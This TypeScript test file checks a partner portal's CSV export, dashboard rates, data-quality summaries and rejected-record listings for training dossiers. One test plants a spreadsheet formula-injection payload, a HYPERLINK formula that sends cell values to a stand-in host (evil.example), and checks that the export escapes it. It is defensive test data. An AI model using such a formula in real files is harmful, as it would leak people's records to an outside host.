import { sql } from 'kysely'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { openTestStore, type TestStore } from '../../test/store.ts'
import { insertDossiers } from '../publish/facts/hub-fixtures.ts'
import { listAudit } from './audit.repository.ts'
import { readDashboard } from './dashboard.repository.ts'
import { exportLines } from './export.ts'
import { type PartnerScope, withPartner } from './partner-tx.ts'
import { computeQualitySummary, type QualityView, readRecentQuality } from './quality.repository.ts'
import { insertPartners, permanentContract } from './test-fixtures.ts'

// The whole view, as the page composes it: the part read at each view and the summary.
const readQuality = async (scope: PartnerScope): Promise<QualityView> => ({
  ...(await readRecentQuality(scope)),
  ...(await computeQualitySummary(scope)),
})

let store: TestStore
let a: number
let b: number

beforeAll(async () => {
  store = await openTestStore()
  ;[a, b] = (await insertPartners(store.db, ['RA', 'OB'])) as [number, number]
  await insertDossiers(store.db, [
    { partner_id: a, record_id: 'A1', person_key: 'P1', shared_dossier_id: 'G1' },
    { partner_id: b, record_id: 'B1', person_key: 'P1', shared_dossier_id: 'G1' },
    { partner_id: a, record_id: 'A2', person_key: 'P2', dispositif: 'PRF', certification_result: 'ECHEC' },
    { partner_id: a, record_id: 'A3', person_key: 'P3', exit_date: null, status: 'ENTRE' },
    { partner_id: a, record_id: 'A4', person_key: 'P4', planned_start: '2024-02-05' },
    { partner_id: b, record_id: 'B2', person_key: 'P5' },
  ])
  await store.db
    .updateTable('dossier_current')
    .set({ offer_ref: 'NOPE' })
    .where('record_id', '=', 'A3')
    .execute()
  await store.db.insertInto('dsn_contract').values(permanentContract('P1', '2024-09-01')).execute()
})
afterAll(() => store.dispose())

async function collect(lines: AsyncGenerator<string>): Promise<string[]> {
  const out: string[] = []
  for await (const chunk of lines) out.push(chunk)
  return out
}

describe('partner reads', () => {
  it('exports in batches every record the partner may read, one audit row per batch', async () => {
    const chunks = await collect(exportLines(store.db, a, 'token:RA', { batch: 2 }))
    const rows = chunks.join('').trim().split('\n').slice(1)
    expect(rows.map((r) => r.split(',').slice(1, 4))).toEqual([
      ['RA', 'A1', 'true'],
      ['RA', 'A2', 'true'],
      ['RA', 'A3', 'true'],
      ['RA', 'A4', 'true'],
      ['OB', 'B1', 'false'],
    ])
    expect(chunks).toHaveLength(4) // the header, then batches of 2, 2 and 1
    const audit = await listAudit(store.db, { partnerId: a })
    expect(audit.map((r) => r.dossiers)).toEqual([['A1', 'A2'], ['A3', 'A4'], ['OB:B1']])
  })

  it('exports a co-funder’s text that a spreadsheet would run as a formula as text, under the route it is given', async () => {
    const formula = '=HYPERLINK("//evil.example/?"&E2&F2,"Voir")'
    await store.db
      .updateTable('dossier_current')
      .set({ offer_ref: formula })
      .where('record_id', '=', 'B1')
      .execute()
    try {
      const csv = (
        await collect(
          exportLines(store.db, a, 'user:ana@ra.fr', { route: 'GET /espace-partenaire/export.csv' }),
        )
      ).join('')
      const b1 = csv.split('\n').find((l) => l.includes(',B1,'))!
      expect([
        b1.includes(`"'=HYPERLINK(""//evil.example/?""&E2&F2,""Voir"")"`),
        b1.includes(',"=HYPERLINK'),
      ]).toEqual([true, false])
      const audit = await listAudit(store.db, { actor: 'user:ana@ra.fr' })
      expect(audit.map((r) => r.route)).toEqual([
        'GET /espace-partenaire/export.csv',
        'GET /espace-partenaire/export.csv',
      ])
    } finally {
      await store.db
        .updateTable('dossier_current')
        .set({ offer_ref: null })
        .where('record_id', '=', 'B1')
        .execute()
    }
  })

  it('counts the partner’s own dossiers by month and dispositif with outcome rates, without suppression', async () => {
    const d = await withPartner(store.db, a, (scope) => readDashboard(scope, '2026-11-28'))
    // A1's person holds a CDI at exit + 6 months.
    expect(d.total).toEqual({
      key: 'total',
      dossiers: 4,
      exited: 3,
      certifiedRate: 2 / 3,
      employed6Rate: 1 / 3,
    })
    expect(d.byDispositif).toEqual([
      { key: 'CPF', dossiers: 3, exited: 2, certifiedRate: 1, employed6Rate: 0.5 },
      { key: 'PRF', dossiers: 1, exited: 1, certifiedRate: 0, employed6Rate: 0 },
    ])
    expect(d.byMonth.map((l) => [l.key, l.dossiers])).toEqual([
      ['2024-01', 3],
      ['2024-02', 1],
    ])
    const withJob = await withPartner(store.db, b, (scope) => readDashboard(scope, '2026-11-28'))
    expect(withJob.total.employed6Rate).toBe(0.5) // B1's person holds a CDI at exit + 6 months; B2's does not
  })

  it('counts employment at 6 months only once the exits reached it (2024-06-28 + 6 months)', async () => {
    const rate = async (asOf: string) =>
      (await withPartner(store.db, a, (scope) => readDashboard(scope, asOf))).total.employed6Rate
    expect([await rate('2024-12-27'), await rate('2024-12-28')]).toEqual([null, 1 / 3])
  })

  it('shows the partner its identities not certified', async () => {
    await store.db
      .updateTable('dossier_current')
      .set({ identity_certified: true })
      .where('record_id', 'in', ['A1', 'A4'])
      .execute()
    const q = await withPartner(store.db, a, (scope) => readQuality(scope))
    expect(q.identities).toEqual({
      records: 4,
      notCertified: 2,
      sample: [
        { type: 'dossier', id: 'A2' },
        { type: 'dossier', id: 'A3' },
      ],
    })
    // No referential is loaded here: nothing is checked against them (referential-flags.repository.db.test.ts).
    expect(q.referentials).toEqual({
      unknownOffer: null,
      offerOrganismDiffers: null,
      unknownSiret: null,
      ndaDiffers: null,
      unknownCertification: null,
      inactiveCertification: null,
    })
    expect([q.transmissions, q.byMonth, q.rejectionsByRule, q.lastRejections]).toEqual([[], [], [], []])
  })

  it('lists the partner’s last rejected records, newest first, each with its findings, and no one else’s', async () => {
    const transmission = async (partner: number, channel: 'api' | 'file') =>
      (
        await store.db
          .insertInto('transmission')
          .values({ partner_id: partner, channel, source: channel === 'file' ? 'feed.ndjson' : null })
          .returning('id')
          .executeTakeFirstOrThrow()
      ).id
    const [file, api, other] = [
      await transmission(a, 'file'),
      await transmission(a, 'api'),
      await transmission(b, 'api'),
    ]
    const finding = (code: string, message: string) => [{ path: '/dispositif', code, message }]
    await store.db
      .insertInto('rejected_record')
      .values([
        {
          transmission_id: file,
          partner_id: a,
          position: 12,
          record_type: 'dossier',
          record_id: 'A9',
          outcome: 'invalid',
          errors: JSON.stringify(
            finding('code/unknown-dispositif', 'dispositif "XX" is not in the code list'),
          ),
          received_at: new Date('2026-11-02T08:00:00Z'),
        },
        {
          transmission_id: api,
          partner_id: a,
          position: 0,
          record_type: null,
          record_id: null,
          outcome: 'invalid',
          errors: JSON.stringify(finding('record/not-an-object', 'the record is not a JSON object')),
          received_at: new Date('2026-11-03T08:00:00Z'),
        },
        {
          transmission_id: other,
          partner_id: b,
          position: 1,
          record_type: 'dossier',
          record_id: 'B9',
          outcome: 'invalid',
          errors: JSON.stringify(finding('record/enum', 'not allowed')),
          received_at: new Date('2026-11-04T08:00:00Z'),
        },
      ])
      .execute()
    const q = await withPartner(store.db, a, (scope) => readQuality(scope))
    expect(q.lastRejections).toEqual([
      {
        receivedAt: '2026-11-03T08:00:00.000Z',
        transmissionId: api,
        channel: 'api',
        position: 0,
        recordId: null,
        errors: finding('record/not-an-object', 'the record is not a JSON object'),
      },
      {
        receivedAt: '2026-11-02T08:00:00.000Z',
        transmissionId: file,
        channel: 'file',
        position: 12,
        recordId: 'A9',
        errors: finding('code/unknown-dispositif', 'dispositif "XX" is not in the code list'),
      },
    ])
    expect(
      q.transmissions.map((t) => [
        t.id,
        t.channel,
        t.status,
        /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/.test(t.startedAt),
      ]),
    ).toEqual([
      [api, 'api', 'running', true],
      [file, 'file', 'running', true],
    ])
    // The file's import committed its last batch 11 minutes ago, and nothing since.
    await sql`update transmission set progressed_at = now() - interval '11 minutes' where id = ${file}`.execute(
      store.db,
    )
    const later = await withPartner(store.db, a, (scope) => readQuality(scope))
    expect(later.transmissions.map((t) => [t.id, t.status])).toEqual([
      [api, 'running'],
      [file, 'stalled'],
    ])
  })
})
